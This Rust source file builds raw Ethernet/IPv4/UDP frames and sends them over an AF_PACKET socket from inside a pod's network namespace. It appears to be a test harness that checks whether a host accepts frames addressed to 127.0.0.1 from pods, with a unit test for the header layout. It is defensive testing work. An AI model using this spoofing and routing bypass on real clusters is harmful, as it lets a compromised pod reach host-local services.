//! Crafted packets, as an attacker inside a pod would send them: an Ethernet frame carrying an
//! IPv4/UDP datagram, written with an `AF_PACKET` socket opened inside a pod's network
//! namespace (pods have CAP_NET_RAW by default). The kernel's own routing in the pod is
//! bypassed, so the destination address can be one the pod would never route to the bridge,
//! such as 127.0.0.1.

use std::net::Ipv4Addr;
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd};
use std::path::Path;

/// One crafted UDP datagram to send from a pod.
#[derive(Debug, Clone)]
pub struct UdpFrame {
    /// Destination MAC: the bridge's, so that the host takes the frame in.
    pub dst_mac: [u8; 6],
    pub src_ip: Ipv4Addr,
    pub dst_ip: Ipv4Addr,
    pub dst_port: u16,
    pub payload: Vec<u8>,
}

impl UdpFrame {
    /// The frame's bytes: Ethernet II, IPv4 (header checksum set), UDP (checksum 0: none).
    pub fn bytes(&self) -> Vec<u8> {
        let udp_len = 8 + self.payload.len();
        let ip_len = 20 + udp_len;
        let mut f = Vec::with_capacity(14 + ip_len);
        f.extend_from_slice(&self.dst_mac);
        f.extend_from_slice(&[0x02, 0, 0, 0x6b, 0x6c, 0x01]); // locally administered source
        f.extend_from_slice(&0x0800u16.to_be_bytes());
        let mut ip = vec![0x45, 0];
        ip.extend_from_slice(&(ip_len as u16).to_be_bytes());
        ip.extend_from_slice(&[0x12, 0x34, 0x40, 0, 64, 17, 0, 0]);
        ip.extend_from_slice(&self.src_ip.octets());
        ip.extend_from_slice(&self.dst_ip.octets());
        let sum = checksum(&ip);
        ip[10..12].copy_from_slice(&sum.to_be_bytes());
        f.extend_from_slice(&ip);
        f.extend_from_slice(&40_000u16.to_be_bytes());
        f.extend_from_slice(&self.dst_port.to_be_bytes());
        f.extend_from_slice(&(udp_len as u16).to_be_bytes());
        f.extend_from_slice(&[0, 0]);
        f.extend_from_slice(&self.payload);
        f
    }
}

/// The Internet checksum of `data` (even length).
fn checksum(data: &[u8]) -> u16 {
    let mut sum: u32 = data
        .chunks(2)
        .map(|c| u32::from(u16::from_be_bytes([c[0], c[1]])))
        .sum();
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !(sum as u16)
}

/// A MAC address as `/sys/class/net/<if>/address` prints it.
pub fn parse_mac(s: &str) -> [u8; 6] {
    let mut mac = [0u8; 6];
    for (i, part) in s.trim().split(':').enumerate() {
        mac[i] = u8::from_str_radix(part, 16).expect("MAC address");
    }
    mac
}

/// Send `frame` out of `ifname` inside the network namespace pinned at `netns`, from a fresh
/// thread that joins that namespace (the calling threads keep theirs).
pub fn send_from_netns(netns: &Path, ifname: &str, frame: &UdpFrame) -> std::io::Result<()> {
    let (netns, ifname, bytes) = (netns.to_owned(), ifname.to_owned(), frame.bytes());
    std::thread::spawn(move || -> std::io::Result<()> {
        let ns = std::fs::File::open(&netns)?;
        nix::sched::setns(&ns, nix::sched::CloneFlags::CLONE_NEWNET)?;
        let name = std::ffi::CString::new(ifname).expect("interface name");
        // SAFETY: `name` is a valid NUL-terminated string for the duration of the call.
        let index = unsafe { libc::if_nametoindex(name.as_ptr()) };
        if index == 0 {
            return Err(std::io::Error::last_os_error());
        }
        send_raw(index, &bytes)
    })
    .join()
    .expect("sender thread")
}

/// Write one Ethernet frame to interface `index` with a packet socket.
fn send_raw(index: u32, frame: &[u8]) -> std::io::Result<()> {
    let proto = (libc::ETH_P_IP as u16).to_be();
    // SAFETY: socket(2) with constant arguments; the result is checked before use.
    let fd = unsafe { libc::socket(libc::AF_PACKET, libc::SOCK_RAW, i32::from(proto)) };
    if fd < 0 {
        return Err(std::io::Error::last_os_error());
    }
    // SAFETY: `fd` is a fresh descriptor that nothing else owns.
    let sock = unsafe { OwnedFd::from_raw_fd(fd) };
    // SAFETY: sockaddr_ll is plain data; all-zero is a valid value.
    let mut addr: libc::sockaddr_ll = unsafe { std::mem::zeroed() };
    addr.sll_family = libc::AF_PACKET as u16;
    addr.sll_protocol = proto;
    addr.sll_ifindex = index as i32;
    addr.sll_halen = 6;
    addr.sll_addr[..6].copy_from_slice(&frame[..6]);
    // SAFETY: `frame` and `addr` outlive the call; the lengths passed are theirs.
    let n = unsafe {
        libc::sendto(
            sock.as_raw_fd(),
            frame.as_ptr().cast(),
            frame.len(),
            0,
            (&addr as *const libc::sockaddr_ll).cast(),
            std::mem::size_of::<libc::sockaddr_ll>() as u32,
        )
    };
    if n < 0 {
        return Err(std::io::Error::last_os_error());
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn frames_carry_a_valid_ipv4_header() {
        let f = UdpFrame {
            dst_mac: parse_mac("aa:bb:cc:dd:ee:0f\n"),
            src_ip: Ipv4Addr::new(10, 0, 0, 2),
            dst_ip: Ipv4Addr::LOCALHOST,
            dst_port: 5353,
            payload: b"hi".to_vec(),
        }
        .bytes();
        assert_eq!(&f[..6], &[0xaa, 0xbb, 0xcc, 0xdd, 0xee, 0x0f]);
        assert_eq!(f.len(), 14 + 20 + 8 + 2);
        assert_eq!(
            checksum(&f[14..34]),
            0,
            "a header with its checksum sums to zero"
        );
        assert_eq!(&f[30..34], &[127, 0, 0, 1]);
        assert_eq!(u16::from_be_bytes([f[36], f[37]]), 5353);
    }
}
